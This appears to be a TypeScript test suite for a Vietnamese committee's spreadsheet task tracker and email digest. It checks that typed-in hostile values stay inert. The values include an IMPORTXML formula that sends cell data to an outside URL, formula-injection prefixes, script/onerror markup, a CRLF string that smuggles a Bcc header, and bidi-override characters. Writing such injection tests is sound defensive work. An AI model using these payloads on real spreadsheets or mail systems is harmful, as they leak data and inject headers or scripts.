import type { Project } from 'stand-in';
import { fill, officeWith, overdueTask, serial, shown, tab } from '../support/office';
import { callDoor } from '../support/doors';

const peoplesTabs = ['Nhiệm vụ', 'Tiêu chí', 'Nội dung', 'Thành viên', 'Khu phố', 'Cài đặt'];
const scriptTabs = ['Tổng quan', 'Lịch sử', 'Sổ gửi'];

const typed: [what: string, text: string][] = [
  ['a formula', '=IMPORTXML("https://example.org/?"&A1,"//a")'],
  ['a sum', '+1+1'],
  ['an at sign', '@SUM(A1:A9)'],
  ['a tab before a formula', '\t=1+1'],
  ['an apostrophe before a formula', "'=1+1"],
  ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)>"\'&amp;'],
  ['line ends and headers', 'Việc\r\nBcc: a@example.org\r\n\r\n<b>x</b>'],
  ['marks that turn the direction', '\u202egnud paht\u202c\u2066x\u2069'],
  ['50,000 characters', 'ữ'.repeat(50_000)],
];

/** A committee in which somebody typed the same text into every column that takes text. */
async function typedEverywhere(text: string): Promise<Project> {
  const project = await officeWith();
  fill(
    project,
    'Nhiệm vụ',
    ['2023-08-04', '2023-08-12'].map((deadline) => ({
      ...overdueTask,
      Mã: text,
      'Nội dung nhiệm vụ': text,
      'Khu phố': text,
      'Người phụ trách': 'Trần Văn Bình',
      'Phối hợp': text,
      'Thời hạn (theo văn bản)': text,
      Hạn: serial(deadline),
      'Lặp lại': text,
      'Trạng thái': 'Vướng mắc',
      'Kết quả, sản phẩm': text,
      'Khó khăn, vướng mắc': text,
      'Kiến nghị': text,
      'Văn bản giao': text,
    })),
  );
  fill(project, 'Tiêu chí', [{ Mã: '3', 'Tiêu chí': text, 'Phụ trách': text, 'Lý do': text }]);
  fill(project, 'Nội dung', [{ Mã: text, 'Tiêu chí': '3', 'Nội dung': text, 'Minh chứng': text }]);
  fill(project, 'Khu phố', [{ Tên: text, 'Trưởng khu phố': text }]);
  fill(project, 'Thành viên', [
    { 'Họ và tên': text, 'Chức vụ': text, 'Đơn vị': text, Email: 'son@example.com', 'Bản tin': 'Cả hai' },
    { 'Họ và tên': 'Trần Văn Bình', Email: 'binh@example.com', 'Bản tin': 'Cả hai' },
    { 'Họ và tên': text, Email: `binh@example.com${text}`.slice(0, 1000), 'Bản tin': 'Cả hai' },
  ]);
  fill(project, 'Cài đặt', [
    { Mục: 'Tên ban chỉ đạo', 'Giá trị': text },
    { Mục: 'Người gửi bản tin', 'Giá trị': text },
  ]);
  project.touch();
  return project;
}

describe.each(typed)('%s, typed into every column,', (_, text) => {
  let project: Project;
  let theirs: string[][][];

  beforeAll(async () => {
    project = await typedEverywhere(text);
    theirs = peoplesTabs.map((name) => shown(tab(project, name)));
    project.call('summariseNow');
    callDoor(project, 'sendDigest', { week: '2023-W32' });
    callDoor(project, 'weekForSidebar');
  });

  it('becomes no formula in a tab of the script’s', () => {
    const cells = scriptTabs.flatMap((name) => [...tab(project, name).cells.values()]);
    const formulas = cells.flatMap((row) => [...row.values()]).filter(({ formula }) => formula !== undefined);
    expect(formulas).toEqual([]);
    expect(shown(tab(project, 'Lịch sử')).length).toBeGreaterThan(2);
  });

  it('leaves people’s rows as they were', () => {
    expect(peoplesTabs.map((name) => shown(tab(project, name)))).toEqual(theirs);
  });

  it('goes to the recipients alone, in letters with one subject and one sender', () => {
    expect(project.mails.map(({ to }) => to).sort()).toEqual(
      expect.arrayContaining(['binh@example.com', 'son@example.com']),
    );
    for (const { to, cc, bcc, subject, name = '', htmlBody = '' } of project.mails) {
      expect(to).toMatch(/^[^\s,;<>]+@[^\s,;<>]+$/);
      expect([cc, bcc]).toEqual([undefined, undefined]);
      expect(subject + name).not.toMatch(/[\r\n]/);
      expect(htmlBody).not.toMatch(/<script|<img/);
    }
  });
});
